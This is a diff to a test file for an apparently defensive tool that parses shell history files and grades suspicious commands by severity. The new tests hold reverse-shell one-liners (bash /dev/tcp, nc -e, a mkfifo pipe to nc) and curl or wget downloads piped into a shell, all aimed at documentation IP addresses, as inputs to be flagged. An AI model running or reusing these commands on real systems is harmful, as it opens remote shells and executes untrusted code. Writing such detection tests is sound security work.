@@ -22,7 +22,8 @@ test('histories of every shell give commands with their times, UTC', () => {
     return artifact.history;
   };
   expect(history('.bash_history', '#1380630977\nfor x in a b\ndo\n#1380630978\nls\n').entries).toEqual([
-    { command: 'for x in a b\ndo', line: 2, time: '2013-10-01T12:36:17Z' },
+    { command: 'for x in a b', line: 2, time: '2013-10-01T12:36:17Z' },
+    { command: 'do', line: 3, time: null },
     { command: 'ls', line: 5, time: '2013-10-01T12:36:18Z' },
   ]);
   expect(history('.bash_history', 'ls\nid\n').entries.map(({ time }) => time)).toEqual([null, null]);
@@ -57,6 +58,39 @@ test('commands of a history are judged and cited by their line, and stay data (A
   });
   expect(result.summary + JSON.stringify(result.findings)).not.toMatch(/[\u001b\u202e]/);
   expect(result.verdict).toBe('suspicious');
+});
+
+const judgeHistory = (text: string) => judgeArtifact(readArtifact(Buffer.from(text), '.bash_history'));
+
+test.each([
+  ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'high'],
+  ['nc -e /bin/sh 203.0.113.5 4444', 'high'],
+  ['nc 203.0.113.5 4444 -e bash', 'high'],
+  ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f', 'high'],
+  ['curl -s http://203.0.113.5/x.sh | sudo bash', 'medium'],
+  ['wget -qO- http://[2001:db8::5]:8080/x | sh', 'medium'],
+])('%s is %s, under a stamp of another command too, and cited by its own line', (command, severity) => {
+  const { findings, verdict } = judgeHistory(`#1700000000\n./build.sh\nls\n${command}\n`);
+  expect(findings.map(({ severity: gravity, evidence: [cited] }) => [gravity, cited?.locator])).toEqual([
+    [severity, 'line 4'],
+  ]);
+  expect(verdict).not.toBe('benign');
+});
+
+test('a history of ordinary work is not suspicious', () => {
+  const ordinary = [
+    'sudo systemctl restart nginx',
+    'wget https://nodejs.org/dist/v20.0.0/node-v20.0.0.tar.gz',
+    'tar xzf node-v20.0.0.tar.gz',
+    './build.sh',
+    'python3 -c "print(1)"',
+    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
+    'git clone https://github.com/example/example',
+  ];
+  const { findings, verdict } = judgeHistory(ordinary.join('\n'));
+  expect(findings.map(({ rule, evidence: [cited] }) => [rule, cited?.locator])).toEqual([]);
+  expect(verdict).toBe('benign');
+  expect(judgeHistory('wget http://198.51.100.7/a -O /tmp/a').verdict).toBe('suspicious');
 });
 
 test('a link that starts a shell with a hidden window is a finding', () => {
